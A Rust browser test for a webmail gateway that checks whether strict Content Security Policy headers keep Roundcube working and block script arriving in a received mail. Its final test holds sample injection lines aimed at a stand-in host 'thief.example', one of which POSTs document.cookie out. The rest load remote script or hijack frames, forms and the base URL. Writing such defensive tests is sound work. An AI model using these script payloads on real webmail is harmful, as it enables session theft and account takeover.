//! The headers that limit script, in Chromium with the real Roundcube: nothing that people do breaks, and what script in
//! a received mail would do does not work.

use std::path::{Path, PathBuf};

use crate::browser::Browser;
use crate::browser_roundcube::{AT_REST, click_send, open_compose, sent_and_back_at_the_list, sign_in};
use crate::stack::{Gateway, Settings, Stack, until};

/// What Chromium's console calls it when a policy forbids something.
const FORBIDDEN: &str = "Content Security Policy";

/// What Roundcube itself forbids attachments; Mailward's policy says neither. Whether Chromium tells of it depends on how soon
/// the page is left.
const ROUNDCUBES: [&str; 2] = ["directive 'default-src 'none''", "directive 'script-src 'none''"];

/// One file of each kind that is shown within the webmail.
fn attachments(folder: &Path) -> Vec<PathBuf> {
    // The smallest picture there is: one grey point.
    let picture = data_encoding::BASE64
        .decode(b"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAA6fptVAAAACklEQVR4nGNiAAAABgADNjd8qAAAAABJRU5ErkJggg==")
        .expect("base64");
    [
        ("picture.png", picture),
        ("page.html", b"<html><body><p>hello</p><img src='data:image/png;base64,iVBORw0KGgo='></body></html>".to_vec()),
        ("drawing.svg", b"<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><rect width='9' height='9'/></svg>".to_vec()),
        ("paper.pdf", b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n".to_vec()),
        ("notes.txt", b"hello\n".to_vec()),
    ]
    .into_iter()
    .map(|(name, content)| {
        let path = folder.join(name);
        std::fs::write(&path, content).expect("a folder of our own");
        path
    })
    .collect()
}

/// Nothing moves any more, also in frames and on pages that are no page of Roundcube's.
async fn complete(browser: &Browser) {
    browser
        .wait_for(
            "document.readyState === 'complete' && !(window.rcmail && rcmail.busy) && \
             [...document.querySelectorAll('iframe')].every(frame => { \
                 try { return frame.contentDocument.readyState === 'complete' } catch { return true } })",
        )
        .await;
}

/// Writing with the HTML editor, reading, every kind of attachment, settings and address book. What the console said.
async fn everything(browser: &mut Browser, url: &str, name: &str, stack: &Stack) -> Vec<String> {
    let writer = stack.account();
    let folder = tempfile::tempdir().expect("a temporary folder");
    let files = attachments(folder.path());
    sign_in(browser, url, &writer).await;

    // The HTML editor, with a picture in the text, and uploads.
    open_compose(browser).await;
    browser.script("rcmail.command('toggle-editor', { html: true, noconvert: true })").await;
    browser.wait_for("window.tinymce && tinymce.activeEditor && tinymce.activeEditor.initialized").await;
    browser.script("tinymce.activeEditor.insertContent('<p><b>bold</b> <span style=\"color: red\">red</span></p>\
        <img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAA6fptVAAAACklEQVR4nGNiAAAABgADNjd8qAAAAABJRU5ErkJggg==\">')").await;
    browser.type_into("#compose_to .recipient-input input", &format!("{},", writer.address())).await;
    browser.type_into("#compose-subject", "All kinds of things").await;
    for (uploaded, file) in files.iter().enumerate() {
        browser.wait_for(AT_REST).await;
        browser.choose_file("input[type=file][name='_attachments[]']", file).await;
        let there = uploaded + 1;
        browser
            .wait_for(&format!("document.querySelectorAll('#attachment-list li:not(.uploading)').length === {there}"))
            .await;
    }
    browser.wait_for(AT_REST).await;
    browser.screenshot(&format!("{name}-editor")).await;
    click_send(browser).await;
    sent_and_back_at_the_list(browser).await;
    until("the message arrives", 20, async || stack.inbox(&writer).into_iter().next()).await;

    // Reading it, in the preview and as a page, and each attachment as Roundcube shows it.
    browser.open(url).await;
    browser.wait_for(&format!("{AT_REST} && rcmail.message_list && rcmail.message_list.rowcount > 0")).await;
    browser.script("rcmail.message_list.select(rcmail.message_list.get_first_row())").await;
    browser.enter_frame("#messagecontframe").await;
    browser.wait_for("document.readyState === 'complete' && document.body.innerText.includes('bold')").await;
    browser.leave_frame().await;
    browser.script("rcmail.show_message(rcmail.message_list.get_first_row(), false, false)").await;
    browser
        .wait_for(&format!("{AT_REST} && rcmail.env.action === 'show' && document.body.innerText.includes('bold')"))
        .await;
    browser.screenshot(&format!("{name}-message")).await;
    let links = browser
        .script("return [...document.querySelectorAll('#attachment-list a')].map(a => a.href).filter(h => h.includes('_part='))")
        .await;
    let links: Vec<String> = serde_json::from_value(links).expect("a list of addresses");
    assert!(links.len() >= files.len(), "{links:?}");
    for link in &links {
        browser.open(&format!("{link}&_frame=1")).await;
        complete(browser).await;
    }

    // Every page of the settings, the address book with a form, and what the plugins add.
    for page in [
        "?_task=settings&_action=folders",
        "?_task=settings&_action=identities",
        "?_task=settings&_action=responses",
        "?_task=settings&_action=plugin.managesieve",
        "?_task=settings&_action=plugin.password",
        "?_task=settings&_action=about",
        "?_task=settings&_action=edit-prefs&_section=compose&_framed=1",
        "?_task=settings&_action=edit-identity&_iid=1&_framed=1",
        "?_task=settings&_action=plugin.managesieve-action&_framed=1&_nav=hide",
        "?_task=addressbook",
        "?_task=addressbook&_action=add&_framed=1&_source=0",
        "?_task=mail&_action=compose&_html=1",
        "?_task=settings",
    ] {
        browser.open(&format!("{url}{page}")).await;
        complete(browser).await;
    }
    browser.click("#sections-table tr#rcmrowcompose").await;
    browser.enter_frame("#preferences-frame").await;
    browser.wait_for("document.readyState === 'complete' && document.querySelector('button.submit')").await;
    browser.click("button.submit").await;
    browser.wait_for("document.readyState === 'complete' && document.querySelector('button.submit')").await;
    browser.leave_frame().await;
    browser.screenshot(&format!("{name}-settings")).await;

    browser.console_errors().await
}

#[tokio::test]
async fn everything_works_under_the_strict_headers_and_script_from_a_mail_gets_nowhere() {
    let stack = Stack::shared();
    let mut alone = Vec::new();
    Browser::visit("headers-alone", async |browser| {
        alone = everything(browser, &format!("http://{}/", stack.web()), "headers-alone", stack).await;
    })
    .await;
    let gateway = Gateway::start(stack.web(), &Settings::new()).await;
    Browser::visit("headers", async |browser| {
        let said = everything(browser, &gateway.url(), "headers", stack).await;
        let is_ours = |error: &&String| {
            error.contains(FORBIDDEN) && !ROUNDCUBES.iter().any(|own| error.contains(own)) && !alone.contains(error)
        };
        let forbidden: Vec<&String> = said.iter().filter(is_ours).collect();
        assert!(forbidden.is_empty(), "{forbidden:#?}");

        // What script in a mail would do, as if it ran in the page.
        for (directive, script) in [
            ("script-src-elem", "let e = document.createElement('script'); e.src = 'https://thief.example/x.js'; document.body.append(e)"),
            ("connect-src", "fetch('https://thief.example/', { method: 'POST', body: document.cookie }).catch(() => 0)"),
            ("connect-src", "navigator.sendBeacon('https://thief.example/', 'x')"),
            ("frame-src", "let e = document.createElement('iframe'); e.src = 'https://thief.example/'; document.body.append(e)"),
            ("form-action", "let e = document.createElement('form'); e.method = 'post'; e.action = 'https://thief.example/'; document.body.append(e); e.submit()"),
            ("object-src", "let e = document.createElement('object'); e.data = 'https://thief.example/x.swf'; document.body.append(e)"),
            ("base-uri", "let e = document.createElement('base'); e.href = 'https://thief.example/'; document.head.append(e)"),
        ] {
            let found = browser
                .script(&format!(
                    "return new Promise(found => {{ \
                       document.addEventListener('securitypolicyviolation', e => found(e.effectiveDirective), {{ once: true }}); \
                       setTimeout(() => found('nothing was forbidden'), 5000); {script} }})"
                ))
                .await;
            assert_eq!(found, directive, "{script}");
        }
        let seen = browser.console_errors().await;
        assert!(seen.iter().any(|error| error.contains(FORBIDDEN)), "the console says what is forbidden: {seen:#?}");
        let closed = browser
            .script("return (async () => (await navigator.permissions.query({ name: 'geolocation' })).state)()")
            .await;
        assert_eq!(closed, "denied");
    })
    .await;
    for kind in ["request_refused", "upstream_failed"] {
        assert_eq!(gateway.events_of(kind), Vec::<serde_json::Value>::new());
    }
}
